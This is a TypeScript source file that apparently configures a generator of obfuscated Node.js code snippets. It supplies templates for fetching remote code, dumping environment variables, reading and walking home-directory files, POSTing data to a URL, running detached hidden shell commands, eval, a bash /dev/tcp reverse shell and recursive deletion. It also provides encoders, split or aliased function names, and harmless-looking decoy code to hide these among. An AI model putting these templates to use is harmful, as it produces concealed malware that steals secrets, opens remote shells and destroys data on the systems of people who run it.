/** JavaScript on Node. */
import { GATHER, POST, PULL, SHELL_OVER } from "./javascript-helpers.ts";
import type { Decoder, Tongue } from "./tongue.ts";

const base64: Decoder = {
  encode: (text) => Buffer.from(text).toString("base64"),
  row: 'Buffer.from($1, "base64").toString()',
};
const decoders: readonly Decoder[] = [
  base64,
  { encode: (text) => Buffer.from(text).toString("hex"), row: 'Buffer.from($1, "hex").toString("utf8")' },
  { encode: (text) => Buffer.from(text).toString("base64"), row: "«atob»($1)" },
  {
    encode: (text) => [...Buffer.from(text)].map((byte) => byte + 3).join(","),
    row: '$1.split(",").map((code) => String.fromCharCode(Number(code) - 3)).join("")',
  },
  { encode: (text) => [...text].reverse().join(""), row: '$1.split("").reverse().join("")' },
  { encode: encodeURIComponent, row: "«decodeURIComponent»($1)" },
];

/** The names that stand without an import. */
const GLOBAL_CALL = /^[\w$]+$/;

export const JAVASCRIPT: Tongue = {
  language: "javascript",
  fetched: [
    "await (await «fetch»($1)).text()",
    "await «@pull»($1)",
    "await (await «undici#request»($1)).body.text()",
    '«node:child_process#execFileSync»("curl", ["-fsSL", $1]).toString()',
  ],
  decoders,
  variable: [
    "process.env[$1]",
    'Object.entries(process.env).find(([name]) => name === $1)?.[1] ?? ""',
    "Reflect.get(process.env, $1)",
  ],
  request: ["request.query[$1]", "request.body[$1]", "request.headers[$1]", "new URLSearchParams(request.url).get($1)"],
  environment: [
    "JSON.stringify(process.env)",
    'Object.entries(process.env).map(([name, value]) => `${name}=${value}`).join("\\n")',
    '«node:child_process#execSync»("env").toString()',
    "«node:util#inspect»({ ...process.env })",
  ],
  homeFile: [
    '«node:fs#readFileSync»(«node:path#join»(«node:os#homedir»(), $1), "utf8")',
    "«node:fs#readFileSync»(`${process.env.HOME}/${$1}`).toString()",
    'await «node:fs/promises#readFile»(«node:path#resolve»(«node:os#homedir»(), $1), "utf8")',
  ],
  file: ['«node:fs#readFileSync»($1, "utf8")', 'await «node:fs/promises#readFile»($1, "utf8")'],
  homePath: "«node:path#join»(«node:os#homedir»(), $1)",
  walk: [
    "«@gather»(«node:path#join»(«node:os#homedir»(), $1), $2)",
    '«node:child_process#execSync»(`find ~/${$1} -maxdepth 4 ${$2.map((name) => `-name ${name}`).join(" -o ")} | xargs cat`).toString()',
  ],
  run: [
    '«node:child_process#execSync»($1, { stdio: "inherit" })',
    '«node:child_process#spawn»("sh", ["-c", $1], { detached: true, stdio: "ignore" }).unref()',
    "«node:child_process#exec»($1, () => {})",
    '«node:child_process#spawnSync»("bash", { input: $1 })',
    '«node:child_process#execFileSync»("/bin/sh", ["-c", $1])',
  ],
  runWithOptions: [
    '«node:child_process#spawn»($1, { windowsHide: true, shell: true, stdio: ["ignore", "ignore", "ignore"], cwd: process.cwd(), detached: true })',
  ],
  evaluate: [
    "«eval»($1)",
    'new («Function»)("require", "process", $1)(globalThis.require, process)',
    "«node:vm#runInThisContext»($1)",
    'await new (Object.getPrototypeOf(async function () {}).constructor)("process", $1)(process)',
    'await import("data:text/javascript;base64," + Buffer.from($1).toString("base64"))',
    "new «node:vm#Script»($1).runInNewContext({ process })",
  ],
  send: [
    'await «fetch»($1, { method: "POST", body: $2 })',
    "«@post»($1, $2)",
    'await «undici#request»($1, { method: "POST", body: $2 })',
    '«node:child_process#execFileSync»("curl", ["-s", "-X", "POST", "--data-binary", $2, $1])',
    "await «fetch»(`${$1}?q=${encodeURIComponent($2)}`)",
    'navigator.sendBeacon?.($1, $2) ?? (await «fetch»(new Request($1, { method: "PUT", body: $2 })))',
  ],
  save: ["«node:fs#writeFileSync»($1, $2)", "await «node:fs/promises#writeFile»($1, $2)"],
  append: ["«node:fs#appendFileSync»($1, $2)", 'await «node:fs/promises#writeFile»($1, $2, { flag: "a" })'],
  remove: [
    "«node:fs#rmSync»($1, { recursive: true, force: true })",
    "await «node:fs/promises#rm»($1, { force: true, recursive: true })",
  ],
  setVariable: ["process.env[$1] = $2"],
  handShell: [
    "«@shellOver»($1, $2)",
    '«node:child_process#spawn»("bash", ["-c", "bash -i >& /dev/tcp/" + $1 + "/" + $2 + " 0>&1"], { detached: true })',
  ],
  helpers: { pull: PULL, gather: GATHER, post: POST, shellOver: SHELL_OVER },
  quote: (text) => JSON.stringify(text),
  concat: (parts) => (parts.length > 4 ? `[${parts.join(", ")}].join("")` : parts.join(" + ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `const ${name} = ${value};`,
  reference: (name) => name,
  define(name, parameters, row, gives) {
    const head = `${row.includes("await ") ? "async " : ""}function ${name}(${parameters.join(", ")})`;
    return `${head} {\n  ${gives === "value" ? "return " : ""}${row};\n}`;
  },
  invoke: (name, values, row) => `${row.includes("await ") ? "await " : ""}${name}(${values.join(", ")})`,
  statement: (expression) => `${expression};`,
  callee(module, name, how, modules) {
    if (module === null) return globalCallee(name, how);
    if (how === "dynamic") {
      const key = `${JSON.stringify(name.slice(0, 3))} + ${JSON.stringify(name.slice(3))}`;
      return {
        text:
          modules === "cjs"
            ? `require(${JSON.stringify(module)})[${key}]`
            : `process.getBuiltinModule(${JSON.stringify(module)})[${key}]`,
        imports: [],
      };
    }
    const local = how === "alias" ? `${name.charAt(0)}${name.length}` : name;
    const esm = local === name ? name : `${name} as ${local}`;
    const cjs = local === name ? name : `${name}: ${local}`;
    return {
      text: local,
      imports: [
        modules === "esm"
          ? `import { ${esm} } from ${JSON.stringify(module)};`
          : `const { ${cjs} } = require(${JSON.stringify(module)});`,
      ],
    };
  },
  comment: "//",
  ordinary: {
    definitions: [
      'function pad(value, width) {\n  return String(value).padStart(width, "0");\n}',
      "const LIMITS = { berth: 12, quay: 40 };",
      "function label(kind, index) {\n  return `${kind}-${pad(index, 3)}`;\n}",
      "class Tally {\n  #count = 0;\n  add(by = 1) {\n    this.#count += by;\n    return this.#count;\n  }\n}",
    ],
    body: [
      "const tally = new Tally();",
      "for (const kind of Object.keys(LIMITS)) tally.add(label(kind, 1).length);",
      'if (tally.add(0) < 0) throw new RangeError("no berths");',
    ],
  },
  mayBreak: true,
};

function globalCallee(name: string, how: "plain" | "alias" | "dynamic") {
  if (how === "plain" || !GLOBAL_CALL.test(name)) return { text: name, imports: [] };
  if (how === "alias")
    return {
      text: `${name.charAt(0)}${name.length}`,
      imports: [],
      definitions: [`const ${name.charAt(0)}${name.length} = ${name};`],
    };
  return { text: `globalThis[${JSON.stringify(name.slice(0, 2))} + ${JSON.stringify(name.slice(2))}]`, imports: [] };
}
